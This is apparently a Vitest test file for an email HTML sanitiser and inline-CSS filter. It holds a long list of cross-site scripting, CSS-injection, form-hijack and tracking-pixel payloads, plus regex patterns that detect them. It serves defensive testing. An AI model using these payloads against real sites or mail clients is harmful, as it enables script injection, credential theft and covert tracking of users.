import { describe, expect, it } from "vitest";
import { safeInlineStyle } from "./mail-css";
import { sanitiseMailHtml } from "./mail-html";

const PICTURES: Record<string, string> = {
  "logo@shop.example": "https://app.test/api/mail/messages/m1/attachments/a1",
};
const clean = (html: string) => sanitiseMailHtml(html, (contentId) => PICTURES[contentId] ?? null);

/** Every way in that a hostile sender might try; none may leave anything that runs, loads or navigates. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//>",
  '<body onload="alert(1)">hi</body>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href=" &#106;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background: url(javascript:alert(1))">x</div>',
  '<div style="background-image: url(https://tracker.example/p.gif)">x</div>',
  '<div style="background: u\\72l(https://tracker.example/p.gif)">x</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
  '<div style="color: red; /* */ background: url(x)">x</div>',
  "<style>@import url(https://evil.example/x.css); body { background: url(javascript:alert(1)) }</style>",
  '<div style="@import url(https://evil.example/x.css)">x</div>',
  "<svg><script>alert(1)</script></svg>",
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<form action="https://evil.example/steal"><form><input name="password"><button formaction="javascript:alert(1)">Go</button></form></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  "<template><script>alert(1)</script></template>",
  "<noscript><img src=x onerror=alert(1)></noscript>",
  "<textarea><script>alert(1)</script></textarea>",
  "<!--<script>alert(1)</script>-->",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<a href="https://ok.example" onclick="alert(1)" target="_self">ok</a>',
  '<div id="x" class="y" data-remote-src="javascript:alert(1)" srcset="https://evil.example/x.png">z</div>',
  '<img srcset="https://tracker.example/p.gif 1x">',
  '<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>',
  '<video poster="https://tracker.example/p.gif"><source src="x.mp4"></video>',
  '<a href="https://a.example"><a href="javascript:alert(1)">nested</a></a>',
  "<div><<script>script>alert(1)<</script>/script></div>",
  '<img src="x" alt="a" onerror=alert(1) / onerror=alert(2)>',
  '<p title="&quot;><script>alert(1)</script>">t</p>',
];

/** What no sanitised mail may contain, however it was reached. */
const FORBIDDEN = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<meta/i,
  /<link/i,
  /<base/i,
  /<svg/i,
  /<math/i,
  /<template/i,
  /<noscript/i,
  /<textarea/i,
  /<video/i,
  /\son[a-z]+=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text/i,
  /image\/svg/i,
  /expression\(/i,
  /url\(/i,
  /@import/i,
  /behavior|binding/i,
  /\ssrcset=/i,
  /\sbackground=/i,
  /\sid=|\sclass=/i,
  /\sformaction=|\saction=|\ssrcdoc=/i,
  /\ssrc="https?:/i,
  /target="_self"/i,
];

describe("sanitising a received mail's HTML", () => {
  it.each(HOSTILE)("leaves nothing that runs or loads in %s", (hostile) => {
    const { html } = clean(hostile);
    for (const pattern of FORBIDDEN) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
    // Written out again, the result stays as it is: nothing in it reads differently a second time.
    expect(clean(html).html).toBe(html);
  });

  it("keeps a mail's table layout with its inline styles", () => {
    const { html, hasRemoteImages } = clean(
      '<html><head><title>News</title><style>p{color:red}</style></head><body bgcolor="#eee" style="margin:0">' +
        '<table width="600" cellpadding="4" border="0" align="center"><tr><td colspan="2" valign="top" ' +
        'style="font-family: Arial, sans-serif; font-size: 14px; color: rgb(51, 51, 51); padding: 8px 12px">' +
        "<h1>Sale</h1><p>Up to <b>50%</b> &amp; more</p></td></tr></table></body></html>",
    );
    expect(html).toBe(
      '<div bgcolor="#eee" style="margin: 0;"><table width="600" cellpadding="4" border="0" align="center">' +
        '<tr><td colspan="2" valign="top" style="font-family: Arial, sans-serif; font-size: 14px; ' +
        'color: rgb(51, 51, 51); padding: 8px 12px;"><h1>Sale</h1><p>Up to <b>50%</b> &amp; more</p></td></tr>' +
        "</table></div>",
    );
    expect(hasRemoteImages).toBe(false);
  });

  it("makes links open in a new tab without a referrer, and leaves out links to nowhere safe", () => {
    expect(clean('<a href="https://shop.example/sale?a=1&amp;b=2" target="_self">Shop</a>').html).toBe(
      '<a href="https://shop.example/sale?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">Shop</a>',
    );
    expect(clean('<a href="mailto:info@shop.example">Write</a>').html).toContain('href="mailto:info@shop.example"');
    expect(clean('<a href="javascript:alert(1)">Click</a>').html).toBe("Click");
  });

  it("blocks pictures on other servers until the reader allows them, and counts them", () => {
    const remote = clean('<p><img src="https://tracker.example/open.gif?u=7" width="1" alt="">Hello</p>');
    expect(remote.html).toBe(
      '<p><img data-remote-src="https://tracker.example/open.gif?u=7" width="1" alt="">Hello</p>',
    );
    expect(remote.hasRemoteImages).toBe(true);
    expect(clean('<img src="//cdn.example/x.png">').html).toBe('<img data-remote-src="https://cdn.example/x.png">');
  });

  it("points pictures the mail carries at its attachments and keeps pictures written into it", () => {
    const { html, hasRemoteImages } = clean(
      '<img src="cid:logo@shop.example" alt="Logo"><img src="cid:%3Clogo%40shop.example%3E">' +
        '<img src="cid:missing@shop.example" alt="Gone"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(html).toBe(
      `<img src="${PICTURES["logo@shop.example"]}" alt="Logo"><img src="${PICTURES["logo@shop.example"]}">` +
        '<img alt="Gone"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(hasRemoteImages).toBe(false);
  });

  it("closes what the mail left open and ignores what it closed twice", () => {
    expect(clean("<div><p><b>bold").html).toBe("<div><p><b>bold</b></p></div>");
    expect(clean("</td></table>text</b>").html).toBe("text");
    expect(clean("a < b > c").html).toBe("a &lt; b &gt; c");
  });
});

describe("a mail's inline styles", () => {
  it("keeps layout properties and drops what loads, runs or positions", () => {
    expect(safeInlineStyle("COLOR: Red; position: fixed; top: 0; z-index: 99; font: 12px/1.5 'Helvetica Neue'")).toBe(
      "color: Red; font: 12px/1.5 'Helvetica Neue';",
    );
    expect(safeInlineStyle("width: calc(100% - 20px) !important; background: url(x)")).toBe(
      "width: calc(100% - 20px) !important;",
    );
    expect(safeInlineStyle('font-family: "Segoe UI", serif; color: #333')).toBe(
      'font-family: "Segoe UI", serif; color: #333;',
    );
    expect(safeInlineStyle('font-family: "unclosed; color: red')).toBe("");
    expect(safeInlineStyle("color: \\72 ed; background: image-set('x.png' 1x)")).toBe("");
  });
});
